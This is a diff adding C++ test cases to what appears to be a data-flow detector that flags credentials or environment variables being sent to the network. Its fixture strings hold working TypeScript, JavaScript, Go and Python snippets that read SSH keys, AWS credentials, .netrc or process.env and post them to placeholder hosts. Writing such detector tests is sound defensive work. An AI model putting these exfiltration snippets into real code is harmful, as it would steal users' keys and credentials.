@@ -567,3 +567,55 @@ TEST_CASE("the files one call writes are followed as one program") {
       "*** Add File: tools/report.py\n+import requests\n+\n+def report(n):\n+    requests.post('https://api.x.example.io/r', json={'n': n})\n*** End Patch\n");
   CHECK_FALSE(flow_in(unrelated, "environment_to_network"));
 }
+
+TEST_CASE("functions bound to names, tables of them, and callbacks passed by name are followed") {
+  // Arrow functions named by the constant that holds them, called by that name.
+  check_flow(Language::typescript,
+             "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
+             "const read = (p: string) => readFileSync(p, 'utf8');\nconst sshKey = () => read(join(homedir(), '.ssh', 'id_rsa'));\n"
+             "export async function send() { await fetch('https://x.example.cc/h', { method: 'POST', body: sshKey() }); }\n",
+             "credentials_to_network", true);
+  // A table of collectors called by key inside a map callback whose results are joined and posted.
+  check_flow(Language::typescript,
+             "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
+             "const read = (p: string) => readFileSync(p, 'utf8');\nconst collectors = { sshKey: () => read(join(homedir(), '.ssh', 'id_rsa')) };\n"
+             "export async function send(keys: string[]) {\n  const lines = keys.map((k) => `${collectors[k]?.() ?? 'n/a'}`);\n"
+             "  await fetch('https://x.example.cc/h', { method: 'POST', body: JSON.stringify({ content: lines.join('\\n') }) });\n}\n",
+             "credentials_to_network", true);
+  // Paths mapped, filtered and handed to a named upload function.
+  check_flow(Language::javascript,
+             "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+             "const TARGETS = ['.aws/credentials', '.netrc'];\nfunction upload(file) {\n  const form = new FormData();\n"
+             "  form.append('file', new Blob([fs.readFileSync(file)]));\n  return fetch('https://cfg.x.example.dev/u', { method: 'POST', body: form });\n}\n"
+             "function syncAll() { return TARGETS.map((t) => path.join(os.homedir(), t)).filter((p) => fs.existsSync(p)).map(upload); }\n",
+             "credentials_to_network", true);
+  // this.settings spread from process.env, the whole object posted.
+  check_flow(Language::javascript,
+             "class Session {\n  constructor() { this.settings = { ...process.env }; }\n"
+             "  async close() { await fetch('https://api.x.example.dev/s', { method: 'POST', body: JSON.stringify(this) }); }\n}\n",
+             "environment_to_network", true);
+}
+
+TEST_CASE("a Go channel carries what one goroutine sends to the one ranging over it") {
+  check_flow(Language::go,
+             "package c\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\n"
+             "func collect(out chan<- []byte) {\n\thome, _ := os.UserHomeDir()\n"
+             "\tif b, err := os.ReadFile(filepath.Join(home, \".aws/credentials\")); err == nil {\n\t\tout <- b\n\t}\n}\n\n"
+             "func ship(in <-chan []byte) {\n\tclient := &http.Client{}\n\tfor b := range in {\n"
+             "\t\treq, _ := http.NewRequest(http.MethodPut, \"https://cfg.x.example.dev/v1\", bytes.NewReader(b))\n\t\tclient.Do(req)\n\t}\n}\n\n"
+             "func Run() {\n\tch := make(chan []byte, 4)\n\tgo collect(ch)\n\tship(ch)\n}\n",
+             "credentials_to_network", true);
+}
+
+TEST_CASE("a client library's own request headers are not a served request's") {
+  check_flow(Language::javascript,
+             "async function retry(request, options) {\n  const headers = request.headers;\n"
+             "  return fetch('https://registry.x.example.org/next', { method: 'POST', body: JSON.stringify({ headers }) });\n}\n",
+             "credentials_to_network", false);
+  check_flow(Language::python,
+             "import requests\n\ndef replay(request):\n    return requests.post('https://x.example.org/r', json=dict(request.headers))\n",
+             "credentials_to_network", false);
+  check_flow(Language::python,
+             "import requests\nfrom flask import request\n\ndef mirror():\n    return requests.post('https://x.example.org/r', json=dict(request.headers))\n",
+             "credentials_to_network", true);
+}
